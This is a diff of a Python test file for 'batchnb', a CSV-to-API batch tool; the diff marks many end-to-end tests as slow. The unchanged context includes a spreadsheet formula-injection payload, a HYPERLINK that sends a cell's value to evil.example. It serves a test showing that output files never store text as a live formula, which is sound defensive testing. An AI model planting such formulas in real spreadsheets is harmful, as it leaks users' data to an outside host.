@@ -25,6 +25,7 @@ def batchnb(*args, env=ENV, **kw):
     )
 
 
+@pytest.mark.slow
 def test_demo_runs_the_worked_examples():
     r = batchnb("demo")
     assert r.returncode == 0, r.stderr
@@ -33,11 +34,13 @@ def test_demo_runs_the_worked_examples():
     assert r.stdout.count(" 201 ") >= 10 and " 424 " in r.stdout
 
 
+@pytest.mark.slow
 def test_serve_refuses_demo_credentials_off_loopback():
     r = batchnb("serve", "--host", "0.0.0.0", "--port", str(free_port()))
     assert r.returncode == 2 and "refusing" in r.stderr
 
 
+@pytest.mark.slow
 def test_serve_refuses_a_connection_bound_no_server_could_keep():
     r = batchnb("serve", "--port", str(free_port()), "--write-timeout", "nan", "--max-connections", "0")
     assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr
@@ -49,6 +52,7 @@ def test_serve_refuses_a_connection_bound_no_server_could_keep():
     assert r.returncode == 2 and "lower --max-connections" in r.stderr, r.stderr
 
 
+@pytest.mark.slow
 def test_serve_takes_each_limit_as_a_flag(tmp_path):
     port, log = free_port(), tmp_path / "serve.log"
     env = {**ENV, "BATCHNB_API_KEY": "cli", "BATCHNB_TOKEN": "cli-secret"}
@@ -96,6 +100,7 @@ def test_serve_takes_each_limit_as_a_flag(tmp_path):
         proc.wait(10)
 
 
+@pytest.mark.slow
 def test_serve_and_run_a_csv_with_a_bad_row(tmp_path):
     port = free_port()
     db = tmp_path / "serve.sqlite3"
@@ -262,6 +267,7 @@ TRAPS = (
 )
 
 
+@pytest.mark.slow
 def test_a_csv_of_traps_reaches_the_api_exactly_as_written(tmp_path):
     """Leading zeros, big integers with gaps, empty cells, unicode, quotes, ';', a BOM, CRLF; then Latin-1 with the flag."""
     upstream = RecordingUpstream(lambda req: Reply(201, {"ok": True}))
@@ -329,6 +335,7 @@ def test_a_csv_of_traps_reaches_the_api_exactly_as_written(tmp_path):
         assert [json.loads(req.body) for req in upstream.requests] == [{"name": "André", "city": "Zürich"}]
 
 
+@pytest.mark.slow
 def test_every_output_problem_is_found_before_anything_is_sent(tmp_path, demo_server):
     url, db = demo_server
     ops = companies_csv(tmp_path / "ops.csv", ["Kept A", "Kept B"])
@@ -390,6 +397,7 @@ def test_every_output_problem_is_found_before_anything_is_sent(tmp_path, demo_se
     assert count(db) == before
 
 
+@pytest.mark.slow
 def test_output_keeps_the_input_columns_writes_unicode_and_goes_to_stdout(tmp_path, demo_server):
     url, _db = demo_server
     ops = tmp_path / "ops.csv"
@@ -416,6 +424,7 @@ def test_output_keeps_the_input_columns_writes_unicode_and_goes_to_stdout(tmp_pa
     assert r.returncode == 1 and sheet["status"].tolist() == [201, 400] and sheet["name"].tolist()[0] == "Café Zoë"
 
 
+@pytest.mark.slow
 def test_resume_against_another_run_is_refused_before_anything_is_sent(tmp_path, demo_server):
     url, db = demo_server
     journal = tmp_path / "run.jsonl"
@@ -439,6 +448,7 @@ def test_resume_against_another_run_is_refused_before_anything_is_sent(tmp_path,
     assert count(db) == before  # every refusal sent nothing, and the true resume had nothing left to send
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("content", "message"),
     [
@@ -461,6 +471,7 @@ def test_a_users_mistake_gets_a_message_not_a_traceback(tmp_path, demo_server, c
     assert count(db) == before
 
 
+@pytest.mark.slow
 def test_urls_and_credentials_are_checked_at_once(tmp_path):
     ops = companies_csv(tmp_path / "ops.csv", ["X"])
     r = batchnb("run", str(ops), "--url", "127.0.0.1:8765", "--method", "POST", "--path", CO, "-q")
@@ -484,6 +495,7 @@ def test_urls_and_credentials_are_checked_at_once(tmp_path):
     assert r.returncode == 2 and "does not exist" in r.stderr and "Traceback" not in r.stderr
 
 
+@pytest.mark.slow
 def test_dry_run_previews_every_operation_with_credentials_masked(tmp_path, demo_server):
     url, db = demo_server
     ops = tmp_path / "ops.csv"
@@ -513,6 +525,7 @@ def test_dry_run_previews_every_operation_with_credentials_masked(tmp_path, demo
     assert count(db) == before
 
 
+@pytest.mark.slow
 def test_help_version_and_serve_saying_its_demo_credentials(tmp_path):
     r = batchnb("--version")
     assert r.returncode == 0 and r.stdout.strip() == "batchnb 0.1.0"
@@ -529,6 +542,7 @@ def test_help_version_and_serve_saying_its_demo_credentials(tmp_path):
         assert "credentials" not in log.read_text() and "s3cret-token" not in log.read_text()
 
 
+@pytest.mark.slow
 def test_the_progress_bar_shows_only_on_a_terminal(tmp_path, demo_server):
     url, _db = demo_server
     ops = companies_csv(tmp_path / "ops.csv", [f"Bar {i}" for i in range(120)])  # three batches
@@ -551,6 +565,7 @@ def test_the_progress_bar_shows_only_on_a_terminal(tmp_path, demo_server):
     assert "op/s" not in r.stderr and "%|" not in r.stderr, r.stderr  # captured: not a terminal, so no bar
 
 
+@pytest.mark.slow
 def test_a_gateway_says_its_upstream_honours_keys_only_when_its_operator_says_so(tmp_path):
     upstream = RecordingUpstream()
     with upstream:
@@ -567,6 +582,7 @@ def post_args(path: Path, url: str, columns: str = "name,note") -> tuple[str, ..
     return ("run", str(path), "--url", url, "--method", "POST", "--path", "/items", "--body-columns", columns, "-q")
 
 
+@pytest.mark.slow
 def test_a_cp1252_export_is_refused_as_latin1_and_reaches_the_api_exactly_as_cp1252(tmp_path):
     """What Excel on Windows saves as "CSV (semicolon)": cp1252, ';', CRLF. Latin-1 would send B\\x9cuf."""
     upstream = RecordingUpstream(lambda req: Reply(201, {"ok": True}))
@@ -596,6 +612,7 @@ def test_a_cp1252_export_is_refused_as_latin1_and_reaches_the_api_exactly_as_cp1
         assert [json.loads(req.body) for req in upstream.requests] == [{"name": "Ōsaka", "note": "€ 5"}]
 
 
+@pytest.mark.slow
 def test_excels_blank_rows_are_skipped_with_a_notice_and_its_sep_line_is_honoured(tmp_path):
     upstream = RecordingUpstream(lambda req: Reply(201, {"ok": True}))
     with upstream, serving(tmp_path, "--upstream", upstream.url) as (url, _log):
@@ -610,6 +627,7 @@ def test_excels_blank_rows_are_skipped_with_a_notice_and_its_sep_line_is_honoure
         assert all(json.loads(req.body) != {} for req in upstream.requests)
 
 
+@pytest.mark.slow
 def test_the_output_csv_is_written_as_the_input_was_for_excel(tmp_path, demo_server):
     url, db = demo_server
     ops = tmp_path / "ops.csv"
@@ -654,6 +672,7 @@ def test_the_output_csv_is_written_as_the_input_was_for_excel(tmp_path, demo_ser
 # ---------------------------------------------------------------- the command line speaks its own words
 
 
+@pytest.mark.slow
 def test_messages_name_the_flags_not_pythons_arguments(tmp_path, demo_server):
     url, db = demo_server
     journal = tmp_path / "run.jsonl"
@@ -686,6 +705,7 @@ def test_messages_name_the_flags_not_pythons_arguments(tmp_path, demo_server):
     assert count(db) == before
 
 
+@pytest.mark.slow
 def test_a_reader_that_stops_early_ends_the_run_quietly(tmp_path, demo_server):
     """batchnb run ... -o - | head -2: no BrokenPipeError; 141, as a command SIGPIPE ends (cat, yes, seq)."""
     url, _db = demo_server
@@ -725,6 +745,7 @@ def test_a_reader_that_stops_early_ends_the_run_quietly(tmp_path, demo_server):
     )  # the summary still says how it went
 
 
+@pytest.mark.slow
 def test_an_interrupted_run_says_how_to_resume_in_flags(tmp_path):
     from tests.support import wait_until
 
@@ -765,6 +786,7 @@ def test_an_interrupted_run_says_how_to_resume_in_flags(tmp_path):
     assert f"resume with --journal {journal} --resume" in errors and "resume=True" not in errors, errors
 
 
+@pytest.mark.slow
 def test_a_run_with_many_failures_groups_them_by_cause_and_says_each_status_once(tmp_path, demo_server):
     url, _db = demo_server
     names = [f"Site {i}" for i in range(500)]
@@ -796,6 +818,7 @@ def test_a_run_with_many_failures_groups_them_by_cause_and_says_each_status_once
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
 
 
+@pytest.mark.slow
 def test_run_writes_no_text_as_a_formula_to_xlsx_or_csv(tmp_path, demo_server):
     openpyxl = pytest.importorskip("openpyxl")
     url, _db = demo_server
@@ -820,6 +843,7 @@ def test_run_writes_no_text_as_a_formula_to_xlsx_or_csv(tmp_path, demo_server):
     assert pd.read_csv(tmp_path / "raw.csv", dtype=str)["note"].tolist() == [FORMULA, "-draft"]
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("args", "said"),
     [
@@ -838,6 +862,7 @@ def test_raw_cells_applies_to_a_csv_output_only(tmp_path, args, said):
 PASSWORD = "S3cretPassw0rd"
 
 
+@pytest.mark.slow
 @pytest.mark.skipif(sys.platform == "win32", reason="POSIX file modes")
 def test_a_password_in_the_url_appears_nowhere_and_files_are_the_owners_only(tmp_path, demo_server):
     url, _db = demo_server
@@ -858,6 +883,7 @@ def test_a_password_in_the_url_appears_nowhere_and_files_are_the_owners_only(tmp
     assert r.returncode == 2 and "ftp://***@127.0.0.1:9" in r.stderr and PASSWORD not in r.stderr
 
 
+@pytest.mark.slow
 def test_serve_names_its_upstream_without_the_password(tmp_path):
     upstream = f"http://alice:{PASSWORD}@127.0.0.1:{free_port()}"
     with serving(tmp_path, "--upstream", upstream, env={**ENV, "BATCHNB_TOKEN": "t"}) as (_url, log):
@@ -868,6 +894,7 @@ def test_serve_names_its_upstream_without_the_password(tmp_path):
 # ---------------------------------------------------------------- numbers given as flags
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("command", "flag", "value"),
     [
